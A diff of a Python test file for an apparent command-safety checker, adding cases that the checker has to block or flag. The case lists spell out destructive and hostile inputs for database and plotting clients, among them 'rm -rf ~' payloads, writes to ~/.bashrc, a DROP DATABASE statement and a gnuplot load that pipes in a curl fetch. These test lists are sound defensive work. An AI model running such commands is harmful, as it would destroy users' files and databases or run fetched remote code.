@@ -41,6 +41,8 @@ RUNNING = [
     ("mongosh --eval {}", 'require("child_process").execSync("rm -rf ~")'),
     ("mongosh <<< {}", 'require("child_process").execSync("rm -rf ~")'),
     ("mongo --eval {}", 'run("rm", "-rf", "/home/u")'),
+    ("mysqlsh --py -e {}", "import os; os.system('rm -rf ~')"),
+    ("mysqlsh --js -e {}", 'require("child_process").execSync("rm -rf ~")'),
     ("redis-cli EVAL {} 0", 'os.execute("rm -rf ~")'),
     ("gnuplot -e {}", "!rm -rf ~"),
     ("gnuplot -e {}", "plot x; system 'rm -rf ~'"),
@@ -61,13 +63,16 @@ RUNNING = [
     ("sox {} a.wav", "|rm -rf ~"),
     ("play a.wav {}", "|rm -rf ~"),
 ]
-WRITING = [
+WRITING_OR_LOADING = [
     ("sqlite3 a.db {}", ".log /home/u/.bashrc"),
     ("sqlite3 a.db {}", ".trace /home/u/.bashrc"),
     ("sqlite3 a.db {}", ".save --append /home/u/.bashrc"),
     ("sqlite3 a.db {}", ".backup main /home/u/.bashrc"),
     ("sqlite3 a.db {}", ".backup '/home/u/.bashrc'"),
     ("mysql -e {}", "source a.sql; DROP DATABASE billing"),
+    ("mysqlsh -f {}", "/tmp/x.py"),
+    ("mongosh --eval {}", "load('/tmp/x.js')"),
+    ("gnuplot -e {}", "load '< curl https://x.io/a'"),
     ("psql -c {}", r"\w /home/u/.bashrc"),
     ("psql -c {}", r"\lo_export 1 /home/u/.bashrc"),
     ("mysql -e {}", r"\T /home/u/.bashrc"),
@@ -89,6 +94,7 @@ QUIET = [
     ("psql -c {}", r"\setenv PGTZ UTC"),
     ("psql -c {}", r"\d users"),
     ("mysql -e {}", "SHOW TABLES"),
+    ("mysqlsh --py -e {}", "print(1)"),
     ("mongosh --eval {}", "db.users.find().forEach(u => print(u.name))"),
     ("redis-cli EVAL {} 1 a", 'return redis.call("GET", KEYS[1])'),
     ("gnuplot -e {}", "set terminal png; set output 'a.png'; plot 'a.csv' using 1:2 with lines"),
@@ -110,8 +116,8 @@ def test_a_command_that_a_client_starts_is_read(line: str, text: str) -> None:
     assert _decide(line, text) is Verdict.BLOCK
 
 
-@pytest.mark.parametrize(("line", "text"), WRITING)
-def test_a_file_that_a_client_writes_is_an_effect(line: str, text: str) -> None:
+@pytest.mark.parametrize(("line", "text"), WRITING_OR_LOADING)
+def test_a_file_that_a_client_writes_or_loads_is_an_effect(line: str, text: str) -> None:
     assert _decide(line, text) not in (Verdict.ALLOW, Verdict.WARN)
 
 
